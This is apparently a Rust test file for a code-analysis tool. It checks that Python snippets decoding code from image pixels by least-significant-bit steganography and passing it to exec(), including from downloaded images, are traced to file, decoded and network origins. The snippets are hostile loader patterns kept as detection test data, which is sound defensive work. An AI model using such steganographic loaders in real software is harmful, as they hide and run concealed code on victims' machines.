//! Text that is put together from bits of a picture is decoded, and it is known to come from the picture.

#[allow(dead_code, reason = "shared with other tests")]
mod common;

use common::event;
use venin_model::{OriginKind, Role};

/// The kinds of origins of what `exec` is given.
fn origins(source: &str) -> (bool, bool, bool) {
    let ran = event(source, "exec");
    let Some(code) = ran.argument(Role::Code) else { return (false, false, false) };
    let kinds = code.origins.kinds;
    (
        kinds.contains(OriginKind::File),
        kinds.contains(OriginKind::Decoded),
        kinds.contains(OriginKind::Network),
    )
}

const FLOWS: &[(&str, &str)] = &[
    (
        "getdata",
        "from PIL import Image\npicture = Image.open('a.png').convert('RGB')\n\
         bits = ''.join(str(c & 1) for p in picture.getdata() for c in p)\n\
         exec(''.join(chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits), 8)))\n",
    ),
    (
        "load",
        "from PIL import Image\npicture = Image.open('a.png')\npixels = picture.load()\nout = bytearray()\nbyte = 0\n\
         for y in range(picture.height):\n    for x in range(picture.width):\n        r, g, b = pixels[x, y]\n\
         \x20       byte = byte << 1 | r & 1\n        out.append(byte)\nexec(bytes(out))\n",
    ),
    (
        "getpixel",
        "from PIL import Image\npicture = Image.open('a.png')\nbits = ''\nwidth, height = picture.size\n\
         for y in range(height):\n    for x in range(width):\n        r, g, b = picture.getpixel((x, y))\n\
         \x20       bits += bin(r)[-1]\ntext = ''\nfor i in range(0, len(bits), 8):\n    text += chr(int(bits[i:i+8], 2))\n\
         exec(compile(text, 'x', 'exec'))\n",
    ),
    (
        "numpy",
        "import numpy as np\nfrom PIL import Image\npixels = np.array(Image.open('a.png'))\n\
         bits = pixels.flatten() & 1\nexec(np.packbits(bits).tobytes().decode())\n",
    ),
    (
        "cv2",
        "import cv2\npicture = cv2.imread('a.png')\ndata = ''\nfor row in picture:\n    for pixel in row:\n\
         \x20       r, g, b = [format(c, '08b') for c in pixel]\n        data += r[-1]\n        data += g[-1]\n\
         chunks = [data[i:i + 8] for i in range(0, len(data), 8)]\ntext = ''\nfor chunk in chunks:\n    text += chr(int(chunk, 2))\n\
         \x20   if text[-5:] == '=====':\n        break\nexec(text[:-5])\n",
    ),
    (
        "by hand",
        "import struct, zlib\ndata = open('a.png', 'rb').read()\nat = 8\nidat = b''\nwhile at < len(data):\n\
         \x20   size, kind = struct.unpack('>I4s', data[at:at + 8])\n    if kind == b'IDAT':\n\
         \x20       idat += data[at + 8:at + 8 + size]\n    at += 12 + size\nraw = zlib.decompress(idat)\n\
         bits = [b & 1 for b in raw]\nout = bytes(sum(bits[i + k] << k for k in range(8)) for i in range(0, len(bits), 8))\n\
         exec(out)\n",
    ),
    ("stepic", "import stepic\nfrom PIL import Image\nexec(stepic.decode(Image.open('a.png')))\n"),
    ("stegano", "from stegano import lsb\nexec(lsb.reveal('a.png'))\n"),
    (
        "bitmap",
        "with open('a.bmp', 'rb') as f:\n    data = f.read()[54:]\ntext = ''\nfor i in range(0, len(data), 8):\n    n = 0\n\
         \x20   for b in data[i:i + 8]:\n        n = n * 2 + b % 2\n    text += chr(n)\nexec(text)\n",
    ),
];

#[test]
fn code_from_pixels_comes_from_a_file_and_is_decoded() {
    let mut failures = Vec::new();
    for (name, source) in FLOWS {
        let (file, decoded, _) = origins(source);
        if !(file && decoded) {
            failures.push(format!("{name}: file {file}, decoded {decoded}"));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn code_from_a_downloaded_picture_comes_from_the_network_too() {
    let read = "text = ''.join(chr(p[0] & 1) for p in picture.getdata())\nexec(text)\n";
    let opened = [
        "import io, requests\nfrom PIL import Image\npicture = Image.open(io.BytesIO(requests.get('https://i.example/a').content))\n",
        "import requests\nfrom PIL import Image\npicture = Image.open(requests.get('https://i.example/a', stream=True).raw)\n",
        "import urllib.request\nfrom PIL import Image\npicture = Image.open(urllib.request.urlopen('https://i.example/a'))\n",
        "import io, requests\nfrom PIL import Image\nbody = io.BytesIO()\n\
         body.write(requests.get('https://i.example/a').content)\nbody.seek(0)\npicture = Image.open(body)\n",
    ];
    for opened in opened {
        assert_eq!(origins(&format!("{opened}{read}")), (true, true, true), "{opened}");
    }
}

#[test]
fn a_file_that_is_read_as_text_is_not_decoded() {
    let source = "exec(open('plugin.cfg').read())\n";
    assert_eq!(origins(source), (true, false, false));
}
